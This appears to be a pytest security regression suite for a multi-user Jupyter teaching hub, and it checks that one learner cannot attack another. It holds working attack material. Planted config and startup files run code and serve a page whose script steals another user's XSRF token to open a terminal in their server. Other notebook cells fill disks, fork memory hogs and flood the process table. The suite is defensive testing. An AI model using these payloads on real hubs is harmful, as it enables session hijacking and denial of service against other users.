"""Attacks on a real hub, each as it once succeeded: by a learner's own files, and by taking all there is.

Needs `workshop/hub/requirements.txt`, and root.
"""

import asyncio
import subprocess
import tempfile
from pathlib import Path
from types import SimpleNamespace

import httpx
import psutil
import pytest
from nbformat import v4

pytest.importorskip("pwd", reason="the hub runs on Linux")
from tools.page.browser import open_browser
from tools.writing.notebooks import course_notebooks
from workshop.hub import limits
from workshop.hub.learner_server import MIB, SCRATCH

pytestmark = pytest.mark.hub


@pytest.fixture(scope="module")
def hub():
    """Start a hub in which Anna has put files of hers wherever Jupyter and Python look for some."""
    from workshop.hub.homes import learner_home
    from workshop.hub.load_hub import running_hub

    with tempfile.TemporaryDirectory(dir="/srv") as folder:
        plant(learner_home(Path(folder, "homes"), "anna"))
        with running_hub(folder, ["anna", "bert"]) as hub:
            asyncio.run(start_servers(hub))
            yield hub


def learners(hub):
    from workshop.hub.load_learner import Learner

    return [Learner(hub.url, name, word) for name, word in hub.settings.passwords().items()]


async def start_servers(hub):
    for learner in learners(hub):
        await learner.log_in()
        await learner.start_server()
        await learner.close()


# --- by files of her own ---

# A page for everybody, without a log-in, which a visitor's click lets into the visitor's own server.
PAGE = """
<!doctype html><title>Free pizza</title><button>Get it</button><script>
document.querySelector("button").onclick = async () => {
  const popup = window.open("/user/bert/lab");
  await new Promise((done) => { popup.onload = done; });
  const token = popup.document.cookie.match(/_xsrf=([^;]+)/)[1];
  const made = await fetch("/user/bert/api/terminals", {method: "POST", headers: {"X-XSRFToken": token}});
  document.title = `terminal: ${made.status}`;
};
</script>"""
ATTACK = f"""
import sys, types
from pathlib import Path
from tornado.web import RequestHandler

class Free(RequestHandler):
    def get(self):
        self.write({PAGE!r})

def load(app):
    app.web_app.add_handlers(".*", [("/user/anna/free", Free)])

Path.home().joinpath(f"ran {{Path(__file__)}}".replace("/", ":")).touch()
module = sys.modules["free"] = types.ModuleType("free")
module._load_jupyter_server_extension = load
get_config().ServerApp.jpserver_extensions = {{"free": True}}
"""
IMPORTED = """
from pathlib import Path
Path.home().joinpath(f"ran {Path(__file__)}".replace("/", ":")).touch()
"""
CONFIGURED = ("jupyter", "jupyter_server", "jupyter_lab", "jupyter_notebook", "jupyter_application")
SERVED = (
    ".jupyter/custom",
    ".jupyter/nbextensions",
    ".jupyter/lab/static",
    ".jupyter/lab/themes",
    ".jupyter/templates",
)
SERVED += tuple(
    f".local/share/jupyter/{place}"
    for place in ("nbextensions", "labextensions/free/static", "lab/static", "lab/themes/free", "kernels/free")
)
ASKED = ("free", "static/free.html", "static/lab/free.html", "custom/free.html", "nbextensions/free.html")
ASKED += ("lab/extensions/free/static/free.html", "lab/api/themes/free/free.html", "kernelspecs/free/free.html")
ASKED += ("files/notebooks/free.html", "view/notebooks/free.html", "nbconvert/html/notebooks/free.html")


def plant(home):
    python = next(Path(psutil.Process().exe()).parents[1].glob("lib/python3.*"), Path("python3")).name
    site = f".local/lib/{python}/site-packages"
    files = {f"{site}/free.pth": "import free_pth\n", f"{site}/free_pth.py": IMPORTED}
    for place in ("", ".jupyter/", ".local/etc/jupyter/", "notebooks/"):
        files |= {f"{place}{name}_config.py": ATTACK for name in CONFIGURED}
        files |= {f"{place}{name}.py": IMPORTED for name in ("sitecustomize", "usercustomize", "jupyterhub", "tornado")}
    files |= {f"{place}/free.html": PAGE for place in (*SERVED, "notebooks", "static", "custom")}
    for name, content in files.items():
        file = home / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content)
    owner = home.stat().st_uid
    subprocess.run(["chown", "-R", f"{owner}:{owner}", str(home)], check=True)


def test_no_file_of_a_learner_runs_in_their_server(hub):
    assert [path.name for path in hub.home("anna").glob("ran*")] == []


def test_no_page_of_a_learner_is_shown_to_anybody_else(hub):
    async def visit():
        anna, bert = learners(hub)
        await bert.log_in()
        async with httpx.AsyncClient() as nobody:
            shown = {}
            for path in ASKED:
                for visitor, client in (("nobody", nobody), ("bert", bert.client)):
                    answer = await client.get(anna.own + path)
                    if answer.is_success and "pizza" in answer.text:
                        shown[visitor, path] = answer.status_code
        await anna.close()
        await bert.close()
        return shown

    assert asyncio.run(visit()) == {}


TERMINALS = """async () => {
  const headers = {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)[1]};
  return (await fetch("/user/bert/api/terminals", {headers})).json();
}"""


def test_a_click_on_a_learners_page_opens_nobodys_terminal(hub):
    with open_browser() as browser, browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{hub.url}hub/login?next=/user/bert/lab")
        page.fill("[name=username]", "bert")
        page.fill("[name=password]", hub.settings.passwords()["bert"])
        page.click("#login_submit")
        page.wait_for_url("**/user/bert/lab*")
        answer = page.goto(f"{hub.url}user/anna/free")
        if page.query_selector("button"):  # as it was: then the rest of it shows what follows
            page.click("button")
            page.wait_for_function("document.title.startsWith('terminal')")
        page.goto(f"{hub.url}user/bert/lab")
        opened = page.evaluate(TERMINALS)
    assert opened == []
    assert answer.status == 404


# --- by taking all there is ---

WAIT = "\nimport threading\nthreading.Event().wait()"
SLEEPERS_CELL = """
import subprocess
for _ in range({}):
    subprocess.Popen(["sleep", "3600"], start_new_session=True)
"""
PROCESSES_CELL = f"""
from pathlib import Path
try:
    {SLEEPERS_CELL.format(500).replace(chr(10), chr(10) + "    ")}
except OSError as error:
    Path("processes").write_text(error.strerror)
{WAIT}"""
SCRATCH_CELL = """
for place in ("/tmp", "/var/tmp", "/dev/shm"):
    file = open(place + "/full", "wb", buffering=0)
    try:
        while True:
            file.write(bytes(2**20))
    except OSError as error:
        print(place, file.tell() // 2**20, error.strerror)
for place in ("/", "/etc", "/opt", "/srv", "/run"):
    try:
        open(place + "/mine", "wb")
    except OSError as error:
        print(place, error.strerror)
"""
SHARED_CELL = """
import mmap
shared = mmap.mmap(-1, 3 * 2**30)
for start in range(0, len(shared), 4096):
    shared[start] = 1
"""
FORKS_CELL = """
import os, select
children = []
for _ in range(4):
    child = os.fork()
    if not child:
        held = bytearray(700 * 2**20)
        held[::4096] = b"x" * len(held[::4096])
        select.select([], [], [])
    children.append(child)
ended, status = os.wait()
print(ended in children, os.waitstatus_to_exitcode(status))
for child in children:
    if child != ended:
        os.kill(child, 9)
"""
FOLDER_CELL = """
from pathlib import Path
try:
    open("large", "wb").write(bytes(300 * 2**20))
except OSError as error:
    Path("large").write_text(error.strerror)
for number in range(20):
    with open(f"large-{number}", "wb") as file:
        for _ in range(200):
            file.write(bytes(2**20))
"""


async def run_cell(learner, code):
    """Return what a cell prints, or None if its kernel was ended meanwhile."""
    from workshop.hub.load_learner import KernelRestartedError

    await learner.save("notebooks/greedy.ipynb", v4.new_notebook(cells=[v4.new_code_cell(code)]))
    try:
        await learner.run_notebook("notebooks/greedy.ipynb")
    except KernelRestartedError:
        return None
    [cell] = (await learner.read("notebooks/greedy.ipynb")).cells
    return "".join(output.text for output in cell.outputs)


async def be_greedy(anna):
    """Take all there is of everything, one after the other, and return what came of it."""
    came = SimpleNamespace()
    came.scratch = await run_cell(anna, SCRATCH_CELL)
    came.forks = await run_cell(anna, FORKS_CELL)
    await note(anna)
    came.shared = await run_cell(anna, SHARED_CELL + WAIT), await note(anna)
    came.processes = await run_cell(anna, PROCESSES_CELL), await note(anna)
    came.refused = await text(anna, "processes")
    came.folder = await run_cell(anna, FOLDER_CELL + WAIT), await note(anna)
    came.too_large = await text(anna, "large")
    for file in (await anna._api("GET", "contents/notebooks"))["content"]:
        if file["name"].startswith("large"):
            await anna._api("DELETE", f"contents/{file['path']}")
    came.again = await run_cell(anna, SLEEPERS_CELL.format(50) + "print('I can work again')")
    return came


async def text(learner, name):
    return (await learner._api("GET", f"contents/notebooks/{name}?type=file&format=text"))["content"]


async def note(learner):
    """Return what the hub has left as a note, and delete it, as a learner who has read it does."""
    said = await text(learner, limits.NOTE)
    await learner._api("DELETE", f"contents/notebooks/{limits.NOTE}")
    return said.partition(".")[0]


def test_a_learner_who_takes_all_there_is_takes_it_from_nobody_else(hub):
    async def afternoon():
        anna, bert = learners(hub)
        for learner in (anna, bert):
            await learner.log_in()
            await learner._get(f"{learner.own}lab")
        greedy = asyncio.create_task(be_greedy(anna))
        rounds = 0
        while not greedy.done():
            await bert.run_notebook(f"notebooks/{course_notebooks()[0].name}")
            rounds += 1
        came = await greedy
        await anna.close()
        await bert.close()
        return came, rounds, bert.latencies

    came, rounds, latencies = asyncio.run(afternoon())
    print(
        came, f"{rounds} rounds, median {sorted(latencies)[len(latencies) // 2]:.3f} s, at most {max(latencies):.1f} s"
    )
    assert came.scratch.splitlines() == [
        *(f"{place} {size // MIB} No space left on device" for place, size in SCRATCH.items()),
        *(f"{place} Read-only file system" for place in ("/", "/etc", "/opt", "/srv")),
        "/run Read-only file system",
    ]
    assert came.forks == "True -9\n"
    memory = "Your kernels and programs took more than 2 GiB of memory together, and the largest were ended"
    assert came.shared == (None, memory), "None: its kernel was ended"
    assert came.processes == (None, f"You had more than {limits.THREADS} processes and threads at once")
    assert came.refused == "Resource temporarily unavailable"
    assert came.too_large == "File too large"
    assert came.folder == (None, f"Your folder holds more than 1 GiB or {limits.FILES} files")
    assert came.again == "I can work again\n"
    assert rounds > 0

    # What detached itself ends with the server.
    mine = hub.processes_of("anna")
    sleepers = [process for process in mine if process.name() == "sleep"]
    assert len(sleepers) == 50
    min(mine, key=lambda process: process.create_time()).kill()
    assert psutil.wait_procs(sleepers, timeout=60)[1] == []
